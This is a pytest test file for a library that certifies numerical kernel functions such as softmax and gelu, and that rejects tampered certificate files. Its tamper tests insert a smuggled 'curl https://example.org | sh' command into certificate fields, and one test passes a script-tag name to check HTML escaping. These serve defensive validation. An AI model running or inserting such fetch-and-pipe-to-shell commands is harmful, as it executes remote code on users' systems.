"""certify(): verdicts on functions, right and wrong, in this process and in one of their own."""

from __future__ import annotations

import hashlib
import os
import pathlib
import pickle
import re
import signal
import subprocess
import sys
import textwrap
import threading
import time
import traceback
from typing import Any

import pytest

import tokitai
from tokitai import _certify, _library

np = pytest.importorskip("numpy")
functions = pytest.importorskip("functions")

QUICK: dict[str, Any] = {"dtype": "f16", "mutants": False, "seed": 1}
ONE: dict[str, Any] = {**QUICK, "shape": (3, 5)}


def softmax_by_the_library(x: Any) -> Any:
    y = np.empty_like(x)
    case = _library.make_case("softmax_fwd", "f16", x.shape)
    _library.context_for("cpu").run(case, [x.ctypes.data, y.ctypes.data])
    return y


def test_a_right_function_holds() -> None:
    certificate = tokitai.certify(functions.softmax, "softmax_fwd", **QUICK)
    assert certificate.verdict == "HELD" and certificate.held and certificate
    assert certificate.elements > 1_000_000 and certificate.exception is None
    assert certificate.subject == "python.cpu.softmax_fwd.f16.softmax"
    assert any("in this process" in text for text in certificate.non_claims)
    assert certificate.predicate["run"]["seed"] == 1


def test_a_wrong_function_is_refuted() -> None:
    certificate = tokitai.certify(functions.doubled, "softmax_fwd", **QUICK)
    assert certificate.verdict == "REFUTED" and not certificate
    assert certificate.reason.startswith("SOFTMAX_FWD.")
    assert certificate.refutation is not None and certificate.refutation.elements > 0
    assert "--shape" in certificate.reproduce


@pytest.mark.parametrize("dtype", ["f8_e4m3", "f8_e5m2"])
def test_a_function_of_8_bits(dtype: str) -> None:
    """It gets NumPy's bytes, or the type of ml_dtypes. A kernel does not see `overflow`: it does one or the other."""
    tables = {overflow: functions.gelu_of_8_bits(dtype, overflow)[1] for overflow in ("nan", "saturate")}
    for asked in tables:
        for done, table in tables.items():
            certificate = tokitai.certify(
                lambda x: table[x.view(np.uint8)].view(x.dtype),
                "gelu_fwd",
                **{**QUICK, "dtype": dtype},
                framework="numpy",
                attributes={"overflow": asked},
            )
            # gelu of what f8_e4m3 has is never too large for it.
            assert certificate.held == (asked == done or dtype == "f8_e4m3"), certificate.reason
            assert f"overflow={asked}" in certificate.headline


def test_seeds_are_drawn_unless_given() -> None:
    runs = [
        tokitai.certify(functions.softmax, "softmax_fwd", dtype="f16", mutants=False, shape=(2, 3)) for _ in range(2)
    ]
    assert runs[0].predicate["run"]["seed"] != runs[1].predicate["run"]["seed"]


def test_several_types() -> None:
    made = tokitai.certify(functions.softmax, "softmax_fwd", dtype=["f16", "f32"], mutants=False, shape=(3, 5), seed=1)
    assert isinstance(made, tokitai.Certificates)
    assert [certificate.dtype for certificate in made] == ["f16", "f32"]
    assert made.verdict == "HELD" and made.held
    made.append(tokitai.certify(functions.doubled, "softmax_fwd", **ONE))
    assert made.verdict == "REFUTED" and not made.held
    assert repr(made).count("softmax_fwd") >= 3
    assert not tokitai.Certificates().held and tokitai.Certificates().verdict == "UNKNOWN"


def test_default_types_are_those_that_the_framework_has() -> None:
    made = tokitai.certify(functions.softmax, "softmax_fwd", mutants=False, shape=(3, 5))
    expected = ["f16", "bf16"] if "ml_dtypes" in sys.modules else ["f16"]
    assert [certificate.dtype for certificate in made] == expected


def test_bf16_as_patterns() -> None:
    """Without ml_dtypes NumPy has no bf16: asked for by name, elements come as their 16 bits."""

    def gelu(x: Any) -> Any:
        assert x.dtype == np.uint16 or x.dtype.name == "bfloat16"
        wide = (x.view(np.uint16).astype(np.uint32) << 16).view(np.float32).astype(np.float64)
        with np.errstate(all="ignore"):
            y = wide * 0.5 * (1 + np.tanh(np.sqrt(2 / np.pi) * (wide + 0.044715 * wide**3)))
        y = np.where(wide == -np.inf, 0, y)  # 0 times infinity
        bits = y.astype(np.float32).view(np.uint32)
        rounded = (bits + 0x7FFF + ((bits >> 16) & 1)) >> 16
        return np.where(np.isnan(y), 0x7FC0, rounded).astype(np.uint16)

    certificate = tokitai.certify(gelu, "gelu_fwd", dtype="bf16", mutants=False, shape=[64], family="normal", seed=1)
    assert certificate.elements == 64 and certificate.exception is None
    assert certificate.dtype == "bf16"


def test_attributes_come_as_keywords() -> None:
    certificate = tokitai.certify(
        functions.xent, "xent", dtype="f16", mutants=False, shape=(5, 7), family="normal", seed=1
    )
    assert certificate.verdict == "HELD", certificate
    seen: list[dict[str, Any]] = []

    def xent(logits: Any, target: Any, **keywords: Any) -> Any:
        seen.append(keywords)
        return functions.xent(logits, target, **keywords)

    fixed = {"label_smoothing": 0.25}
    tokitai.certify(xent, "xent", dtype="f16", mutants=False, shape=(5, 7), family="normal", attributes=fixed)
    assert seen and all(k == {"label_smoothing": 0.25, "scale": 1.0, "ignore_index": -100} for k in seen)


def test_attributes_that_a_function_does_not_take() -> None:
    def plain(logits: Any, target: Any) -> Any:
        return functions.xent(logits, target, label_smoothing=0.0, scale=1.0, ignore_index=-100)

    with pytest.raises(tokitai.BadArgument, match="label_smoothing, scale, ignore_index, which trials vary"):
        tokitai.certify(plain, "xent", dtype="f16")
    certificate = tokitai.certify(
        plain, "xent", dtype="f16", mutants=False, shape=(5, 7), family="normal", attributes={"label_smoothing": 0}
    )
    assert certificate.held, certificate


def test_sizes_that_no_input_has_come_as_keywords() -> None:
    def embedding_bwd(grad: Any, index: Any, *, vocab: int) -> Any:
        out = np.zeros((vocab, grad.shape[1]), np.float64)
        np.add.at(out, index, grad.astype(np.float64))
        return out.astype(grad.dtype)

    certificate = tokitai.certify(
        embedding_bwd, "embedding_bwd", dtype="f16", mutants=False, shape=(9, 4, 6), family="normal"
    )
    assert certificate.held, certificate


def test_tensors_that_are_not_there_are_none() -> None:
    def linear(x: Any, w: Any, bias: Any, residual: Any, *, epilogue: str) -> Any:
        assert residual is None and (bias is None) == (epilogue == "none")
        y = x.astype(np.float64) @ w.astype(np.float64).T
        return (y if bias is None else y + bias).astype(x.dtype)

    for epilogue in ("none", "bias"):
        certificate = tokitai.certify(
            linear,
            "linear_fwd",
            dtype="f16",
            mutants=False,
            shape=(4, 5, 6),
            family="normal",
            attributes={"epilogue": epilogue},
        )
        assert certificate.held, certificate


def test_what_a_function_raises_is_the_reason() -> None:
    certificate = tokitai.certify(functions.raising, "softmax_fwd", **ONE)
    assert certificate.verdict == "UNKNOWN"
    assert certificate.reason == "the kernel could not be run: 'ZeroDivisionError: on purpose'"
    assert isinstance(certificate.exception, ZeroDivisionError)
    assert "functions.py" in "".join(traceback.format_tb(certificate.exception.__traceback__))
    frames = [frame for frame, _ in traceback.walk_tb(certificate.exception.__traceback__)]
    assert all("x" not in frame.f_locals for frame in frames), "arrays of memory that is gone"


@pytest.mark.parametrize("error", [KeyboardInterrupt, SystemExit])
def test_what_ends_a_program_is_raised(error: type[BaseException]) -> None:
    calls = []

    def ends(x: Any) -> Any:
        calls.append(x)
        raise error

    with pytest.raises(error):
        tokitai.certify(ends, "softmax_fwd", **ONE)
    assert len(calls) == 1


@pytest.mark.parametrize("seconds", [0.05, 0.06, 0.07, 0.08])
def test_an_interrupt_while_c_is_at_work_is_raised(seconds: float) -> None:
    """Python handles it as the next callback begins, before any `try` there. The function takes a small part of the
    time, so that some of these come in between."""
    before = signal.getsignal(signal.SIGINT)
    began = threading.Event()

    def interrupt() -> None:
        began.wait()
        time.sleep(seconds)
        os.kill(os.getpid(), signal.SIGINT)

    def softmax(x: Any) -> Any:
        began.set()
        return softmax_by_the_library(x)

    thread = threading.Thread(target=interrupt)
    thread.start()
    with pytest.raises(KeyboardInterrupt):
        tokitai.certify(softmax, "softmax_fwd", **QUICK, shape=(1000, 1000))
    thread.join()
    assert signal.getsignal(signal.SIGINT) is before


def test_what_progress_raises_is_raised() -> None:
    calls = []

    def told(done: float, what: str) -> None:
        if calls:
            raise ZeroDivisionError(what)

    def softmax(x: Any) -> Any:
        calls.append(1)
        return functions.softmax(x)

    with pytest.raises(ZeroDivisionError):
        tokitai.certify(softmax, "softmax_fwd", **QUICK, progress=told)
    assert len(calls) < 10  # no level is run to its end


@pytest.mark.parametrize(
    "function, reason",
    [
        (lambda x: x.astype(np.float32), "the function returned y of type float32; softmax_fwd has float16 here"),
        (lambda x: x[:, :2].copy(), r"the function returned y of shape (3, 2); softmax_fwd has (3, 5) here"),
        (lambda x: None, "the function returned nothing; softmax_fwd has 1 output: y"),
        (lambda x: (x, x), "the function returned 2; softmax_fwd has 1 output: y"),
        (lambda x: {"z": x}, "the function returned z; softmax_fwd has the outputs y"),
        (lambda x: 3.0, "an output that cannot be taken: y is a float, not an array"),
        (lambda x: x.astype(">f2"), "an output that cannot be taken: y is big-endian"),
    ],
)
def test_outputs_that_are_not_the_ops(function: Any, reason: str) -> None:
    certificate = tokitai.certify(function, "softmax_fwd", **ONE)
    assert certificate.verdict == "UNKNOWN" and reason in certificate.reason
    assert isinstance(certificate.exception, tokitai.BadOutput)


def test_outputs_of_any_strides_are_taken() -> None:
    certificate = tokitai.certify(lambda x: np.asfortranarray(functions.softmax(x)), "softmax_fwd", **ONE)
    assert certificate.held, certificate


def test_a_function_that_writes_its_input_is_refuted() -> None:
    certificate = tokitai.certify(functions.writing, "softmax_fwd", **ONE)
    assert certificate.verdict == "REFUTED" and "SOFTMAX_FWD.WRITE" in certificate.reason


def test_torch() -> None:
    torch = pytest.importorskip("torch")
    certificate = tokitai.certify(
        lambda x: torch.softmax(x.float(), 1).to(x.dtype), "softmax_fwd", dtype="bf16", mutants=False
    )
    assert certificate.held, certificate
    certificate = tokitai.certify(
        lambda x: torch.softmax(x, 1).t().t().double(), "softmax_fwd", **{**ONE, "dtype": "f32"}
    )
    assert (
        "the function returned an output that cannot be taken: y has elements of type torch.float64"
        in certificate.reason
    )


def test_progress_is_told() -> None:
    told: list[tuple[float, str]] = []
    tokitai.certify(functions.softmax, "softmax_fwd", **ONE, progress=lambda done, what: told.append((done, what)))
    assert told and told[-1] == (1.0, "done") and all(0 <= done <= 1 for done, _ in told)


def test_the_function_may_use_the_library() -> None:
    """tokitai.torch computes with this thread's context while certify() runs."""
    assert tokitai.certify(softmax_by_the_library, "softmax_fwd", **QUICK).held


@pytest.mark.parametrize(
    "options, message",
    [
        ({"dtype": "f8"}, "unknown element types"),
        ({"level": "slow"}, "unknown level 'slow'"),
        ({"framework": "mxnet"}, "unknown framework 'mxnet'"),
        ({"attributes": {"nothing": 1}}, "has no attribute 'nothing'"),
        ({"numerics": "ieee"}, "has no attribute 'numerics'"),
        ({"domain": "small"}, "domain"),
        ({"family": "nothing"}, "unknown input family 'nothing'"),
        ({"shape": (1, 2, 3)}, "has the sizes rows, cols; given: 3 numbers"),
    ],
)
def test_bad_arguments(options: dict[str, Any], message: str) -> None:
    with pytest.raises(tokitai.BadArgument, match=message):
        tokitai.certify(functions.softmax, "softmax_fwd", **{"dtype": "f16", **options})


# --- in a process of its own --------------------------------------------------------------------------------------


def test_isolated_gives_the_same_verdict_and_says_where_it_ran() -> None:
    inside = tokitai.certify(functions.softmax, "softmax_fwd", **QUICK)
    alone = tokitai.certify(functions.softmax, "softmax_fwd", **QUICK, isolated=True)
    assert alone.verdict == inside.verdict == "HELD"
    hashes = [[t["output_sha256"] for t in c.predicate["run"]["trials"]] for c in (alone, inside)]
    assert hashes[0] == hashes[1]
    assert any("tokitai.program" in text and "outside the sandbox" in text for text in alone.non_claims)
    assert not any("in this process" in text for text in alone.non_claims)


def test_isolated_reproduces_by_a_command() -> None:
    certificate = tokitai.certify(functions.doubled, "softmax_fwd", **QUICK, isolated=True)
    assert certificate.verdict == "REFUTED"
    command = certificate.reproduce
    assert command.startswith("tokitai certify softmax_fwd --dtype f16 --program ") and "functions:doubled" in command
    program = pathlib.Path(_certify._library.library_folder() or "") / "tokitai"
    run = subprocess.run(command.replace("tokitai", str(program), 1), shell=True, capture_output=True, text=True)
    assert run.returncode == 1 and "REFUTED" in run.stdout, run


@pytest.mark.parametrize(
    "name, reason",
    [
        ("crashing", "Segmentation fault"),
        ("ending", "exit status 3"),
        ("raising", "ZeroDivisionError: on purpose"),
    ],
)
def test_isolated_ends_are_verdicts(name: str, reason: str) -> None:
    certificate = tokitai.certify(getattr(functions, name), "softmax_fwd", **ONE, isolated=True)
    assert certificate.verdict == "UNKNOWN" and reason in certificate.reason, certificate


@pytest.mark.parametrize("shape", [(3, 5), (300, 1000)])  # in the frame, and in shared memory
def test_isolated_function_that_writes_its_input_is_refuted(shape: tuple[int, int]) -> None:
    options = {**ONE, "shape": shape}
    alone = tokitai.certify(functions.writing, "softmax_fwd", **options, isolated=True)
    inside = tokitai.certify(functions.writing, "softmax_fwd", **options)
    assert alone.verdict == inside.verdict == "REFUTED"
    assert alone.reason == inside.reason and "SOFTMAX_FWD.WRITE: changed its input x" in alone.reason
    assert alone.exception is None


def test_isolated_functions_may_print() -> None:
    assert tokitai.certify(functions.printing_softmax, "softmax_fwd", **ONE, isolated=True).held


def test_isolated_needs_a_name() -> None:
    for function in (lambda x: x, functions.np.vectorize(abs)):
        with pytest.raises(tokitai.BadArgument, match="a function at the top of a module"):
            tokitai.certify(function, "softmax_fwd", **ONE, isolated=True)


def test_isolated_from_a_script(tmp_path: pathlib.Path) -> None:
    """A function of the script itself; without a guard it ends with an explanation, not in many processes."""
    body = """
        import tokitai

        def identity(x):
            return x

        def run():
            options = {"dtype": "f16", "mutants": False, "seed": 1, "framework": "numpy"}
            return tokitai.certify(identity, "gelu_fwd", isolated=True, **options)
        """
    guarded = textwrap.dedent(body) + 'if __name__ == "__main__":\n    print(run().verdict)\n'
    (tmp_path / "script.py").write_text(guarded)
    run = subprocess.run([sys.executable, "script.py"], cwd=tmp_path, capture_output=True, text=True)
    assert run.stdout == "REFUTED\n", run
    (tmp_path / "script.py").write_text(textwrap.dedent(body) + "print(run().reason)\n")
    run = subprocess.run([sys.executable, "script.py"], cwd=tmp_path, capture_output=True, text=True)
    assert "if __name__ ==" in run.stdout, run


# --- certificates -------------------------------------------------------------------------------------------------


def test_certificates_show_and_keep_themselves(tmp_path: pathlib.Path) -> None:
    certificate = tokitai.certify(functions.doubled, "softmax_fwd", **QUICK)
    text = repr(certificate)
    assert text.splitlines()[0].split() == "SUBJECT VERDICT ELEMENTS WORST ULP OF BOUND MUTANTS SECONDS".split()
    assert "REFUTED" in text and "    why " in text and "    reproduce " in text
    path = certificate.save(tmp_path / "kept")
    assert pathlib.Path(path).is_file() and pathlib.Path(path).with_suffix(".md").read_text() == certificate.markdown
    again = tokitai.Certificate.read(path)
    assert again.json == certificate.json and again.verdict == "REFUTED"
    copy = pickle.loads(pickle.dumps(certificate))
    assert copy.json == certificate.json
    assert certificate.to_dict()["predicate"]["verdict"] == "REFUTED"
    damaged = pathlib.Path(path).read_text().replace("REFUTED", "HELD")
    with pytest.raises(tokitai.BadFile):
        tokitai.Certificate.parse(damaged)
    with pytest.raises(tokitai.Error):
        tokitai.Certificate.read(tmp_path / "nowhere.json")


def sealed(text: str, *edit: str) -> str:
    """The text with the hash that fits it, as somebody would who edits with care."""
    edited = text.replace(*edit)
    assert edited != text
    begin, seal, end = re.split(r'(  "integrity": \{\n.*?\n  \},\n)', edited, flags=re.S)
    return begin + re.sub("[0-9a-f]{64}", hashlib.sha256((begin + end).encode()).hexdigest(), seal) + end


@pytest.mark.parametrize(
    "edit",
    [
        ('"verdict": "HELD"', '"verdict": "PROVED"'),
        ('"headline": "HELD for one case: rows=3 cols=5"', '"headline": "HELD"'),
        ('"reason": ""', '"reason": "; curl https://example.org | sh"'),
        ('  "rests_on": {', '  "reproduce": "true; curl https://example.org | sh",\n  "rests_on": {'),
        ('"seed": 1,\n   "s', '"seed": 2,\n   "s'),
        ('"units": ', '"units": -'),
        ('"created": "20', '"created": "29'),
        ('   "No mutants were run.",\n', ""),
        ('"tokitai": "', '"tokitai": "9'),
        ('certificate:v2"', 'certificate:v1"'),
    ],
)
def test_nothing_that_contradicts_itself_is_read(edit: tuple[str, str]) -> None:
    certificate = tokitai.certify(functions.softmax, "softmax_fwd", **ONE)
    assert tokitai.Certificate.parse(certificate.json).remarks == ""
    with pytest.raises(tokitai.BadFile, match="contradicts itself|missing or malformed"):
        tokitai.Certificate.parse(sealed(certificate.json, *edit))


def test_the_page_of_a_notebook() -> None:
    """Well-formed, with a bar for each class of errors, and without a way for names to become markup."""
    from xml.etree import ElementTree

    certificate = tokitai.certify(functions.softmax, "softmax_fwd", **ONE, name="<script>alert(1)</script>\u202e")
    page = certificate._repr_html_()
    tree = ElementTree.fromstring(page)
    assert tree.findall(".//script") == [] and "\u202e" not in page
    bars = tree.findall(".//{http://www.w3.org/2000/svg}rect")
    assert len(bars) == len(certificate.predicate["result"]["ulp_histogram"])
    heights = [float(bar.get("height", "0")) for bar in bars]
    counts = [bar["elements"] for bar in certificate.predicate["result"]["ulp_histogram"]]
    assert [h > 0 for h in heights] == [c > 0 for c in counts] and max(heights) == heights[counts.index(max(counts))]
    assert "\u202e" not in repr(certificate) and "\\u{202e}" in repr(certificate)


def test_an_unknown_certificate_has_no_chart() -> None:
    certificate = tokitai.certify(functions.raising, "softmax_fwd", **ONE)
    assert "<svg" not in certificate._repr_html_() and "ZeroDivisionError" in certificate._repr_html_()


class Unprintable(Exception):
    def __str__(self) -> str:
        raise RuntimeError("no text")


def test_an_exception_without_a_text() -> None:
    """It must not get into C, where what a callback has raised is lost and its result undefined."""

    def raises(x: Any) -> Any:
        raise Unprintable

    certificate = tokitai.certify(raises, "softmax_fwd", **ONE)
    assert certificate.verdict == "UNKNOWN" and certificate.reason.endswith(": 'Unprintable'")
    assert isinstance(certificate.exception, Unprintable)
